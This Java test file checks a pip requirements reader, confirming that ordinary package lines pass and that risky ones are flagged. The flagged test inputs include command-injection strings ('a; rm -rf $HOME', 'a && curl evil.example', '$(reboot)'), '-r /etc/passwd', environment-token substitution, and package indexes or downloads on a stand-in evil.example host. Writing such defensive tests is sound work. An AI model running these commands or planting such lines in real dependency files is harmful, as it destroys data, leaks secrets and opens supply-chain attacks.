package io.millrace.models.format;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.millrace.runtime.error.MillraceException;
import io.millrace.runtime.python.Requirement;
import io.millrace.runtime.python.RequirementsReader;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RequirementsTest {

  @TempDir Path folder;

  @BeforeEach
  void wheel() throws IOException {
    Folders.write(folder, "wheels/mine-1.0-py3-none-any.whl", "");
    Folders.write(folder, "source/setup.py", "");
    Folders.write(folder, "constraints.txt", "numpy<3\n");
  }

  private List<Requirement> read(String text) throws IOException {
    Folders.write(folder, "requirements.txt", text);
    RequirementsReader reader = new RequirementsReader(FolderFiles.of(folder));
    reader.addFile("requirements.txt");
    return reader.requirements().lines();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "numpy",
        "scikit-learn==1.9.1",
        "a.b_c-d[x,y] >=1.0,!=1.5, <2",
        "torch==2.1.0+cu118",
        "a===weird",
        "a (>=1.0)",
        "a~=1.0; python_version < '3.9' and (sys_platform == \"linux\" or extra == 'x')",
        "a==1.* ; platform_machine not in 'x86_64'",
        "a==1 --hash=sha256:abcd --hash=sha256:ef",
        "wheels/mine-1.0-py3-none-any.whl",
        "./wheels/mine-1.0-py3-none-any.whl",
        "--pre",
        "--only-binary :all:",
        "-r constraints.txt",
        "-cconstraints.txt",
        "--constraint=constraints.txt",
      })
  void isAllowed(String line) throws IOException {
    assertThat(read(line)).isNotEmpty().noneMatch(Requirement::needsPermission);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          --index-url https://evil.example/simple    | asks another index
          --index-url=https://evil.example/simple    | asks another index
          -i https://evil.example/simple             | asks another index
          -ihttps://evil.example/simple              | asks another index
          --extra-index-url https://a/simple         | asks another index
          --find-links ./wheels                      | looks for packages elsewhere
          --trusted-host evil.example                | trusts a host
          -e .                                       | runs the code of a project
          --editable=git+https://a/b                 | runs the code of a project
          --no-binary :all:                          | runs the code of packages
          --inde https://a                           | is an option that is not known
          -r ../other.txt                            | names a file that is not in the folder
          -r /etc/passwd                             | names a file that is not in the folder
          -r https://evil.example/r.txt              | names a file that is not in the folder
          a==1 --config-settings=x=y                 | has the option --config-settings
          a==1 --global-option="x"                   | has the option --global-option
          a @ https://evil.example/a.whl             | fetches from https://evil.example/a.whl
          a[x]@git+ssh://git@h/a                     | fetches from git+ssh://git@h/a
          git+https://evil.example/a                 | fetches from git+https
          https://evil.example/a.whl                 | fetches from https
          a @ file:///tmp/a.whl                      | is a file by its URL
          file:a.whl                                 | is a file by its URL
          ../a.whl                                   | is a path to something that is not in the folder
          /tmp/a.whl                                 | is a path to something that is not in the folder
          other.whl                                  | is a path to something that is not in the folder
          ./source                                   | is a folder, whose code would be run
          a==${TOKEN}                                | is filled in from the server's environment
          --pre ${HOME}                              | is an option that is not known
          a; rm -rf $HOME                            | is no requirement
          a && curl evil.example                     | is no requirement
          $(reboot)                                  | is no requirement
          a==1 b==2                                  | is no requirement
          a; python_version < '3' and os.system('x') | is no requirement
          """)
  void needsPermission(String line, String concern) throws IOException {
    Requirement read = read(line).getFirst();
    assertThat(read.concern()).startsWith(concern);
    assertThat(read.text()).isEqualTo(line);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a | sh", "`a`", "ä==1"})
  void othersAreNoRequirements(String line) throws IOException {
    assertThat(read(line).getFirst().concern()).startsWith("is no requirement");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a # \u2028-i https://evil",
        "# \u000b-i https://evil",
        "a # \u0085-i https://evil",
        "a\0b"
      })
  void linesHiddenInCommentsAreSeen(String line) throws IOException {
    assertThat(read("b\n" + line).get(1).concern()).startsWith("has control characters");
  }

  @Test
  void entriesOfYamlAreSingleLines() throws IOException {
    RequirementsReader reader = new RequirementsReader(FolderFiles.of(folder));
    reader.add("conda.yaml", List.of("numpy", "# x\n-i https://evil"));
    assertThat(reader.requirements().needingPermission())
        .extracting(Requirement::text)
        .contains("# x\n-i https://evil");
  }

  @Test
  void linesAreThoseOfPip() throws IOException {
    List<Requirement> lines =
        read(
            """
            # mlflow==1
              numpy==1 # why
            a>=1, \\
              <2
            https://h/x#egg=a
            -r requirements.txt
            -c constraints.txt
            """);
    assertThat(lines)
        .extracting(one -> one.file() + ":" + one.line() + " " + one.text())
        .containsExactly(
            "requirements.txt:2 numpy==1",
            "requirements.txt:3 a>=1,   <2",
            "requirements.txt:5 https://h/x#egg=a",
            "requirements.txt:6 -r requirements.txt",
            "requirements.txt:7 -c constraints.txt",
            "constraints.txt:1 numpy<3");
  }

  @Test
  void lengthIsBounded() {
    assertThatThrownBy(() -> read("a".repeat(10_000))).isInstanceOf(MillraceException.class);
    assertThatThrownBy(() -> read("a\\\n".repeat(10_000))).isInstanceOf(MillraceException.class);
    assertThatThrownBy(() -> read("a\n".repeat(20_000)))
        .isInstanceOf(MillraceException.class)
        .hasMessageContaining("requirements.txt line ");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"a%s!", "a @%s", "a;%s!", "a[%s", "a==1,%s!", "%s/", "a --hash%s!", "a%s#"})
  void longLinesAreJudgedAtOnce(String pattern) throws IOException {
    for (String filler : new String[] {" ", "a", "(", "[", "==", "..", "'", "a=", ",", " -a"}) {
      String line = pattern.formatted(filler.repeat(8_000 / filler.length()));
      assertThat(read(line)).hasSize(1);
    }
  }

  @Property(tries = 300)
  void whatIsAllowedHasNothingForAShell(@ForAll("lines") String line) throws IOException {
    RequirementsReader reader = new RequirementsReader(FolderFiles.of(Folders.logged("custom")));
    reader.add("r", List.of(line));
    for (Requirement read : reader.requirements().lines()) {
      if (!read.needsPermission()) {
        assertThat(line).doesNotContain("$", "`", "|", "&", "://", "/..");
        // An option begins a word, as pip reads lines; elsewhere dashes are dashes: 'a--i'.
        assertThat(line).doesNotContainPattern("(^|\\s)-");
      }
    }
  }

  @Provide
  Arbitrary<String> lines() {
    return Arbitraries.of(
            "a", "==", "1", ";", " ", "$", "`", "|", "&", "@", "://", "/", "..", "--i", "[", "]",
            "'x'", "extra", "<", "(", ")", ",", "and")
        .list()
        .ofMaxSize(10)
        .map(parts -> String.join("", parts));
  }
}
